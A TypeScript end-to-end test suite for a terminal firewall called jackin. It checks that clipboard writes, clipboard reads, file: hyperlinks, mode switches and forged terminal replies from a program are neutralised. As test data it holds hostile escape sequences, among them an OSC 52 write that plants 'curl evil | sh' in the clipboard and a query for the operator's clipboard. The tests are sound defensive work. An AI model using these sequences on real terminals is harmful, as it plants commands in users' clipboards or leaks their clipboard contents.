// End-to-end: the host's terminal firewall (issue 14), tmux as the operator's terminal with
// `set-clipboard on` (so tmux itself would act on a program's OSC 52 and answer clipboard queries: each
// test first shows that it does, outside jackin, so it can fail).
import { test, type TestContext } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  confirmOnScreen,
  fixtureCommand,
  INNER_PROMPT,
  INNER_SHELL,
  JACKIN,
  OUTER_PROMPT,
  paneFor,
  startSession,
  START_TIMEOUT_MS,
  waitForJackinExit,
  JACKIN_CAPSULE,
} from './helpers/jackin-cli.ts';
import { pollUntil } from './helpers/poll.ts';
import { shellQuote, type TmuxPane } from './helpers/tmux.ts';
import { recordingOpener } from './helpers/recording-opener.ts';
import { ownClipboard, startXvfb } from './helpers/xvfb.ts';

const PALETTE_KEY = [0x1c];
const SECRET = 'OPERATOR-SECRET-hunter2';
const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');

async function clipboardPane(t: TestContext, env: Record<string, string> = {}): Promise<TmuxPane> {
  const pane = await paneFor(t, { env });
  await pane.tmux('set-option', '-g', 'set-clipboard', 'on');
  return pane;
}

/**
 * Starts `jackin run --verbose` with its diagnostics (every notice, as drawn) in a file, and returns a
 * waiter for a notice: the overlay shows one for about 3 s, which a loaded machine's polling can miss.
 */
async function loggedSession(t: TestContext, pane: TmuxPane, name: string): Promise<(notice: RegExp) => Promise<void>> {
  const dir = mkdtempSync(join(tmpdir(), 'jackin-fw-log-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const log = join(dir, 'verbose.log');
  await pane.typeLine(`clear; ${JACKIN} run --verbose --name ${shellQuote(name)} -- ${INNER_SHELL} 2>>${shellQuote(log)}; echo "jackin-rc=$?"`);
  await pane.waitForText(INNER_PROMPT, { timeoutMs: START_TIMEOUT_MS });
  return async (notice) => {
    await pollUntil(`the notice ${String(notice)}`, () => existsSync(log) && notice.test(readFileSync(log, 'utf8')), { timeoutMs: 10_000 });
  };
}

async function buffers(pane: TmuxPane): Promise<string> {
  return pane.tmux('list-buffers', '-F', '#{buffer_name}:#{buffer_sample}');
}

test("firewall: a program's OSC 52 and DCS-wrapped OSC 52 leave no tmux buffer; the host shows a copy offer", async (t) => {
  const pane = await clipboardPane(t);
  // Outside jackin, tmux takes the program's OSC 52 as a clipboard write.
  await pane.typeLine(`printf '\\033]52;c;%s\\a' ${b64('outside')}; clear`);
  await pollUntil('tmux to store the outside write', async () => (await buffers(pane)).includes('outside'));
  await pane.tmux('delete-buffer', '-b', (await buffers(pane)).split(':')[0]!);
  assert.equal(await buffers(pane), '');

  const noticed = await loggedSession(t, pane, 'fw-osc52');
  await pane.typeLine(
    `printf '\\033]52;c;%s\\a' ${b64('curl evil | sh')}; printf '\\033Ptmux;\\033\\033]52;c;%s\\a\\033\\\\' ${b64('wrapped')}; echo done-$((40+2))`,
  );
  await pane.waitForText(/^done-42$/m);
  await noticed(/notice \(info\): Copy offer: 14 B "curl evil \| sh"/);
  await noticed(/notice \(info\): Copy offer: 7 B "wrapped"/);
  assert.equal(await buffers(pane), '', 'no tmux buffer');
  await pane.typeLine('exit');
  await waitForJackinExit(pane);
});

test("firewall: a program's clipboard query gets nothing (tmux would answer with the operator's clipboard)", async (t) => {
  const pane = await clipboardPane(t);
  await pane.tmux('set-buffer', SECRET);
  const secretHex = Buffer.from(b64(SECRET)).toString('hex');
  await pane.typeLine(`clear; ${fixtureCommand('query-replies.mjs')}`);
  const outside = await pane.waitForText(/received:[0-9a-f]*:end/);
  assert.ok(outside.replace(/\n/g, '').includes(secretHex), 'tmux answers the query outside jackin');
  await pane.typeLine('clear');
  await pane.waitForText(OUTER_PROMPT);

  const noticed = await loggedSession(t, pane, 'fw-query');
  await pane.typeLine(fixtureCommand('query-replies.mjs'));
  const screen = await pane.waitForText(/received:[0-9a-f]*:end/);
  const hex = /received:([0-9a-f]*):end/.exec(screen.replace(/\n/g, ''))![1]!;
  const got = Buffer.from(hex, 'hex').toString('latin1');
  assert.ok(!got.includes(b64(SECRET)) && !got.includes('\x1b]52'), `no clipboard reply: ${JSON.stringify(got)}`);
  assert.match(got, /^\x1b\[\?[\d;]*c$/, 'the DA1 reply (its query was let out) arrives, alone');
  await noticed(/asked to read your clipboard; it got nothing/);
  await pane.typeLine('exit');
  await waitForJackinExit(pane);
});

test('firewall: a file: OSC 8 target never reaches the terminal; an https one does, and the labels stay', async (t) => {
  const pane = await clipboardPane(t);
  const dir = mkdtempSync(join(tmpdir(), 'jackin-fw-pipe-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const log = join(dir, 'written.bin');
  await startSession(pane, 'fw-osc8');
  // Everything jackin writes to its terminal from here on.
  await pane.tmux('pipe-pane', '-O', '-t', pane.target, `cat >> ${shellQuote(log)}`);
  await pane.typeLine(
    `printf '\\033]8;;file:///etc/passwd\\033\\\\LOCAL-LABEL\\033]8;;\\033\\\\ \\033]8;;https://ok.example/docs\\033\\\\WEB-LABEL\\033]8;;\\033\\\\\\n'`,
  );
  await pane.waitForText(/LOCAL-LABEL WEB-LABEL/);
  await pollUntil('the piped bytes', () => existsSync(log) && readFileSync(log, 'latin1').includes('WEB-LABEL'));
  await pane.tmux('pipe-pane', '-t', pane.target);
  const written = readFileSync(log, 'latin1');
  assert.ok(written.includes('\x1b]8;;https://ok.example/docs\x1b\\WEB-LABEL'), 'the https link is kept');
  assert.ok(written.includes('LOCAL-LABEL'));
  // The typed command line echoes the target as text; what must be absent is the sequence itself.
  assert.ok(!written.includes('\x1b]8;;file:'), 'no file: hyperlink reached the terminal');
  await pane.typeLine('exit');
  await waitForJackinExit(pane);
});

test('firewall: modes switched on in pieces across frames are restored at exit (alternate screen, origin, insert)', async (t) => {
  const pane = await clipboardPane(t);
  await startSession(pane, 'fw-split');
  await pane.typeLine(`printf '\\033[?10'; sleep 0.3; printf '49h\\033[?'; sleep 0.3; printf '6h\\033[4'; sleep 0.3; printf 'hSPLIT-ON'`);
  // The output line, not the typed command line that also holds the word.
  await pane.waitForText(/^SPLIT-ON/m);
  assert.equal((await pane.modes()).alternateOn, true);
  const on = await pane.modes();
  assert.ok(on.origin && on.insert, 'the program switched origin and insert mode on');
  await pane.typeLine('exit');
  assert.equal(await waitForJackinExit(pane), 0);
  const off = await pane.modes();
  assert.deepEqual([off.alternateOn, off.origin, off.insert], [false, false, false]);
});

test("firewall: a program's ?1000l does not switch off click capture; a Ctrl+click still opens the link", async (t) => {
  const rec = recordingOpener(t);
  const pane = await clipboardPane(t, rec.env);
  await startSession(pane, 'fw-mouse');
  await pollUntil('click capture on', async () => (await pane.modes()).mouseAny);
  await pane.typeLine(`clear; printf '\\033[?1000l\\033[?1006l\\033[?1002lvisit https://click.example/x now\\n'`);
  const screen = await pane.waitForText(/^visit https:\/\/click\.example\/x now$/m);
  assert.equal((await pane.modes()).mouseAny, true, 'the terminal still reports clicks');
  const lines = screen.split('\n');
  const row = lines.findIndex((l) => l.startsWith('visit https'));
  const col = lines[row]!.indexOf('https') + 2;
  const report = (press: boolean) => [...Buffer.from(`\x1b[<16;${col + 1};${row + 1}${press ? 'M' : 'm'}`, 'latin1')];
  await pane.sendBytes([...report(true), ...report(false)]);
  // The host confirms a link the capsule resolved before it opens it.
  await pane.waitForText(/│ https:\/\/click\.example\/x/);
  await confirmOnScreen(pane);
  await pollUntil('the link to open', () => rec.opened().includes('https://click.example/x'));
  await pane.typeLine('exit');
  await waitForJackinExit(pane);
});

test('firewall: Copy offered text puts the text on a real X11 clipboard', async (t) => {
  const x = await startXvfb();
  t.after(() => x.stop());
  const pane = await clipboardPane(t, { DISPLAY: x.display });
  const noticed = await loggedSession(t, pane, 'fw-x11');
  const text = 'copied from the agent \u00e9';
  await pane.typeLine(`printf '\\033]52;c;%s\\a' ${b64(text)}`);
  await noticed(/Copy offer: 24 B "copied from the agent \u00e9"/);
  await pane.sendBytes([...PALETTE_KEY, 0x63]);
  const read = () => spawnSync('xclip', ['-selection', 'clipboard', '-o'], { env: x.env }).stdout.toString('utf8');
  await pollUntil('the X11 clipboard to hold the offered text', () => read() === text);
  await noticed(/Copied 24 B .* to the clipboard \(xclip\)/);
  assert.equal(await buffers(pane), '', 'no OSC 52 to the terminal when a clipboard is reachable');
  // Take the selection back with an owner we stop, so the xclip that served the copy exits.
  await (await ownClipboard(x, 'text/plain', Buffer.from('other'))).stop();
  await pane.typeLine('exit');
  await waitForJackinExit(pane);
});

test("firewall: without a clipboard, Copy offered text reaches the outer terminal through jackin's own OSC 52 (jackin-capsule copy too)", async (t) => {
  const pane = await clipboardPane(t);
  const noticed = await loggedSession(t, pane, 'fw-osc52-out');
  await pane.typeLine(`printf 'from capsule copy\\n' | ${JACKIN_CAPSULE} copy`);
  await noticed(/Copy offer: 18 B "from capsule copy"/);
  assert.equal(await buffers(pane), '');
  await pane.sendBytes([...PALETTE_KEY, 0x63]);
  await pollUntil("tmux to store jackin's own OSC 52", async () => (await buffers(pane)).includes('from capsule copy'));
  assert.equal(await pane.tmux('show-buffer'), 'from capsule copy\n');
  await pane.waitForText(INNER_PROMPT);
  await pane.typeLine('exit');
  await waitForJackinExit(pane);
});

test('firewall: a terminal reply nobody asked for never acts as keys (0x1c and 0x16 inside it open nothing)', async (t) => {
  const pane = await clipboardPane(t, { JACKIN_PASTE_KEY: 'ctrl+v' });
  await startSession(pane, 'fw-reply');
  await pane.sendBytes([...Buffer.from('\x1bP>|evil', 'latin1'), 0x1c, 0x16, ...Buffer.from('term\x1b\\', 'latin1')]);
  await pane.sendBytes([...Buffer.from('\x1b]52;c;T1BFUkFUT1I=\x07\x1b[?64;1c', 'latin1')]);
  await pane.typeLine('echo after-$((6*7))');
  const screen = await pane.waitForText(/^after-42$/m);
  assert.match(screen, /^in\$ echo after-\$\(\(6\*7\)\)$/m, 'nothing of the replies reached the command line');
  assert.doesNotMatch(screen, /Detach|Redraw the screen/, 'the palette never opened');
  await pane.typeLine('exit');
  await waitForJackinExit(pane);
});

test("firewall: a program's title is made inert and the operator's title comes back at exit", async (t) => {
  const pane = await clipboardPane(t);
  await pane.typeLine(`printf '\\033]2;operator-title\\033\\\\'; clear`);
  await pollUntil('the operator title', async () => (await pane.display('#{pane_title}')) === 'operator-title');
  await startSession(pane, 'fw-title');
  await pane.typeLine(`printf '\\033]2;agent\\177title\\007'; echo title-$((1+1))`);
  await pane.waitForText(/^title-2$/m);
  await pollUntil('the program title, inert', async () => (await pane.display('#{pane_title}')) === 'agent\\x7ftitle');
  await pane.typeLine('exit');
  await waitForJackinExit(pane);
  await pollUntil('the operator title back', async () => (await pane.display('#{pane_title}')) === 'operator-title');
});
